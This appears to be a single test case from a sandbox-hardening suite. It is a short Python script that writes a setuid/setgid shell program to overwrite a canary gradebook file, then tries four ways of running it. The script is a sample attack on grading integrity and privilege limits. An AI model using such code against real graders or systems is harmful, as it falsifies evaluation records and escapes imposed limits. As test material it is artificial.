# attack: writes a program with the rights of its owner, and runs it
# family: state
# base: solved
# points: 7
# %% last
import os, subprocess
with open("program", "wb") as file:
    file.write(b"#!/bin/sh\necho mine > CANARY/gradebook.db\n")
os.chmod("program", 0o6777)
for action in (
    lambda: subprocess.run(["./program"]),
    lambda: os.posix_spawn("./program", ["program"], {}),
    lambda: os.execv("./program", ["program"]),
    lambda: os.system("./program"),
):
    try:
        action()
    except OSError as error:
        print(error)
